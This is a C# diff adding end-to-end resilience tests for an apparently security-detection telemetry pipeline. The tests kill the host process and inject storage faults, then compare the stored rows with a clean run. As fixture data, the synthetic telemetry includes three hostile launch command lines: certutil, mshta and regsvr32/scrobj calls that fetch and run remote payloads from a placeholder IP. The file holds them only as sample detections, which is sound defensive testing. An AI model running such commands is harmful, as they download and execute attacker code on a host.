@@ -1,0 +1,204 @@
+using System.Diagnostics;
+using System.Globalization;
+using Changeling.Events;
+using Changeling.Functions.Tests.App;
+using Changeling.HostStandIn;
+using Changeling.TestSupport;
+using static Changeling.TestSupport.Telemetry;
+
+namespace Changeling.Functions.Tests.EndToEnd;
+
+/// <summary>
+/// Histories with real processes, real kills, Azurite, and a proxy that delays, cuts and refuses requests to the table. Each event
+/// partition is a history of its own; rows are held against a plain recount of its messages, detections against a quiet run.
+/// </summary>
+public class ProcessHistoriesTests(AppFixture app, ITestOutputHelper output) : IClassFixture<AppFixture>
+{
+    private const int HistoriesARun = 25;
+
+    private static readonly (string Child, string CommandLine)[] Bad =
+    [
+        ("certutil.exe", @"certutil.exe -urlcache -split -f http://198.51.100.7/a.txt C:\Users\Public\a.exe"),
+        ("mshta.exe", "mshta.exe http://198.51.100.7/x.hta"),
+        ("regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll"),
+    ];
+
+    [Fact(Timeout = 300_000)]
+    public async Task Twenty_five_histories_of_kills_and_storage_faults_leave_the_rows_of_a_plain_recount()
+    {
+        var started = Stopwatch.GetTimestamp();
+        var quiet = await QuietAsync(TestContext.Current.CancellationToken);
+
+        var (kills, faults) = await DisturbedAsync(1, quiet, killEvery: TimeSpan.FromSeconds(1), mostKills: 3);
+
+        Assert.True(kills >= 2 && faults >= 10, $"{kills} kills and {faults} faults are too few to show anything");
+        output.WriteLine($"{HistoriesARun} histories, {quiet.Messages.Values.Sum(m => m.Count)} messages, {kills} kills, {faults} faults of the table service, in {Stopwatch.GetElapsedTime(started).TotalSeconds:0} s");
+    }
+
+    /// <summary>By hand: CHANGELING_SOAK_MINUTES=10, see docs/testing.md.</summary>
+    [Fact(Explicit = true)]
+    public async Task Minutes_of_kills_and_storage_faults_leave_the_rows_of_a_plain_recount()
+    {
+        var minutes = double.Parse(Environment.GetEnvironmentVariable("CHANGELING_SOAK_MINUTES") ?? "10", CultureInfo.InvariantCulture);
+        var (started, runs, kills, faults) = (Stopwatch.GetTimestamp(), 0, 0, 0);
+        var quiet = await QuietAsync(TestContext.Current.CancellationToken);
+        while (Stopwatch.GetElapsedTime(started).TotalMinutes < minutes)
+        {
+            var (killed, faulty) = await DisturbedAsync(100 + runs, quiet, killEvery: TimeSpan.FromSeconds(3), mostKills: int.MaxValue);
+            (runs, kills, faults) = (runs + 1, kills + killed, faults + faulty);
+            output.WriteLine($"{runs * HistoriesARun} histories, {kills} kills, {faults} faults, in {Stopwatch.GetElapsedTime(started).TotalMinutes:0.0} min");
+        }
+    }
+
+    [Fact(Timeout = 300_000)]
+    public async Task A_store_that_is_down_is_answered_quickly_and_the_app_recovers_without_a_restart()
+    {
+        var seconds = double.Parse(Environment.GetEnvironmentVariable("CHANGELING_OUTAGE_SECONDS") ?? "5", CultureInfo.InvariantCulture);
+        var baseline = AzuriteFixture.UniqueName("down");
+        var quiet = await QuietAsync(TestContext.Current.CancellationToken);
+        var down = 0L;
+        var slowest = TimeSpan.Zero;
+        var begun = new System.Collections.Concurrent.ConcurrentDictionary<Guid, long>();
+        await using var proxy = await FaultProxy.StartAsync(app.ConnectionString, (isTransaction, number) =>
+        {
+            if (isTransaction && number == 5) Interlocked.CompareExchange(ref down, Stopwatch.GetTimestamp(), 0);
+            return Volatile.Read(ref down) is var since and not 0 && Stopwatch.GetElapsedTime(since).TotalSeconds < seconds ? TableFault.Answer503 : TableFault.None;
+        });
+        await using var host = await app.StartAsync(baseline, o => WithProxy(o, proxy) with
+        {
+            MaxEventBatchSize = 20,
+            RetryIntervalFactor = 0.02,
+            Sending = invocation =>
+            {
+                begun[invocation.Id] = Stopwatch.GetTimestamp();
+                return ValueTask.CompletedTask;
+            },
+            Arrives = invocation =>
+            {
+                lock (begun) slowest = TimeSpan.FromTicks(Math.Max(slowest.Ticks, Stopwatch.GetElapsedTime(begun[invocation.Id]).Ticks));
+                return true;
+            },
+        });
+        var process = host.ProcessId;
+        var before = Resident(process!.Value);
+
+        var run = await host.RunAsync(Feeds(quiet.Messages), null, TestContext.Current.CancellationToken);
+
+        var after = Resident(process.Value);
+        Assert.Equal((0, 0), (run.Restarts, run.LostBatches));
+        Assert.True(run.FailedAttempts > 0, "the outage hit nothing");
+        Assert.Equal(process, host.ProcessId);
+        // Wide, because a loaded machine is slow on its own; the figure is printed.
+        Assert.InRange(slowest, TimeSpan.Zero, TimeSpan.FromSeconds(55));
+        Assert.InRange(after - before, long.MinValue, 256L * 1024 * 1024);
+        await AssertSameAsync(baseline, quiet, host);
+        output.WriteLine($"down for {seconds} s: {run.FailedAttempts} failed attempts, slowest answer {slowest.TotalSeconds:0.0} s, {before / 1048576} MiB resident before, {after / 1048576} after");
+    }
+
+    private static long Resident(int process)
+    {
+        using var handle = Process.GetProcessById(process);
+        return handle.WorkingSet64;
+    }
+
+    private static HostOptions WithProxy(HostOptions options, FaultProxy proxy) => options with
+    {
+        Settings = new Dictionary<string, string>(options.Settings) { ["Storage:ConnectionString"] = proxy.ConnectionString },
+    };
+
+    private async Task<Quiet> QuietAsync(CancellationToken cancellationToken)
+    {
+        var messages = Histories();
+        await using var host = await app.StartAsync(AzuriteFixture.UniqueName("quiet"), o => o with { MaxEventBatchSize = 1000 });
+        var run = await host.RunAsync(Feeds(messages), null, cancellationToken);
+        Assert.Equal((0, 0), (run.FailedAttempts, run.Restarts));
+        return new Quiet(messages, Fleet.Ids(host), PlainRows.Of(messages));
+    }
+
+    private async Task<(int Kills, int Faults)> DisturbedAsync(int seed, Quiet quiet, TimeSpan killEvery, int mostKills)
+    {
+        var baseline = AzuriteFixture.UniqueName("history");
+        var chance = new Random(seed);
+        await using var proxy = await FaultProxy.StartAsync(app.ConnectionString, (isTransaction, _) =>
+        {
+            lock (chance) return chance.NextDouble() < (isTransaction ? 0.12 : 0.03) ? (TableFault)chance.Next(1, 8) : TableFault.None;
+        });
+        using var over = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
+        var done = new Done();
+        await using var host = await app.StartAsync(baseline, o => WithProxy(o, proxy) with
+        {
+            MaxEventBatchSize = 8 + chance.Next(20),
+            RetryIntervalFactor = 0.01,
+        });
+        var killing = KillAsync(host, done, killEvery, mostKills, new Random(seed), over.Token);
+
+        var run = await host.RunAsync(Feeds(quiet.Messages), done, TestContext.Current.CancellationToken);
+        await over.CancelAsync();
+        await Task.WhenAny(killing);
+
+        Assert.Equal(0, run.LostBatches);
+        await AssertSameAsync(baseline, quiet, host);
+        return (run.Restarts, proxy.Faults);
+    }
+
+    /// <summary>Kills the app again and again, but never before it has got on: however slow the machine, the run comes to an end.</summary>
+    private static async Task KillAsync(FunctionsHost host, Done done, TimeSpan every, int most, Random chance, CancellationToken cancellationToken)
+    {
+        for (var kill = 0; kill < most; kill++)
+        {
+            var before = done.Batches;
+            await Task.Delay(every * (0.3 + (1.4 * chance.NextDouble())), cancellationToken);
+            while (done.Batches < before + 10) await Task.Delay(20, cancellationToken);
+            host.Kill();
+        }
+    }
+
+    private async Task AssertSameAsync(string baseline, Quiet quiet, FunctionsHost host)
+    {
+        Assert.NotEmpty(quiet.Ids);
+        Assert.Equal(quiet.Ids, Fleet.Ids(host));
+        Assert.Equal(quiet.Rows, await PlainRows.ReadAsync(app.ConnectionString, baseline));
+    }
+
+    /// <summary>
+    /// Twenty-five event partitions: a parent gathers enough history that something new under it is rare, then ordinary and bad
+    /// launches. Every run is of the same messages; only what happens to them differs.
+    /// </summary>
+    private static Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> Histories() => Enumerable.Range(0, HistoriesARun).ToDictionary(
+        p => new EventPartition("telemetry", p.ToString(CultureInfo.InvariantCulture)),
+        p => (IReadOnlyList<TelemetryMessage>)[.. Enumerable.Range(0, 52).Select(i => Message(i, Body(new Random((p * 1000) + i), p, i), Some.Time.AddMinutes(i)))]);
+
+    private static byte[] Body(Random chance, int partition, int message)
+    {
+        byte[] Launch(string child, string commandLine, int record) => Record(
+            "services.exe", child, commandLine, Some.Time.AddMinutes(message), $"{{{partition}-{message}-{record}}}", $"ws-{chance.Next(6)}");
+
+        byte[] Malicious(int record)
+        {
+            var (child, commandLine) = Bad[chance.Next(Bad.Length)];
+            return Launch(child, commandLine, record);
+        }
+
+        return message < 12
+            ? Many([.. Enumerable.Range(0, 150).Select(r => Launch("svchost.exe", @"C:\Windows\System32\svchost.exe -k netsvcs -p", r))])
+            : Many([.. Enumerable.Range(0, chance.Next(1, 5)).Select(r => chance.Next(6) == 0
+                ? Malicious(r)
+                : Launch($"{(char)('g' + chance.Next(18))}service.exe", "service.exe", r))]);
+    }
+
+    private static List<PartitionFeed> Feeds(Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> messages) =>
+        [.. messages.Select(p => new PartitionFeed(p.Key, p.Value.ToAsyncEnumerable()))];
+
+    /// <summary>Counts the batches that are done for good.</summary>
+    private sealed class Done : IProgress<BatchReport>
+    {
+        private int _batches;
+
+        public int Batches => Volatile.Read(ref _batches);
+
+        public void Report(BatchReport value) => Interlocked.Increment(ref _batches);
+    }
+
+    private sealed record Quiet(
+        Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> Messages, SortedSet<string> Ids, SortedDictionary<string, string> Rows);
+}
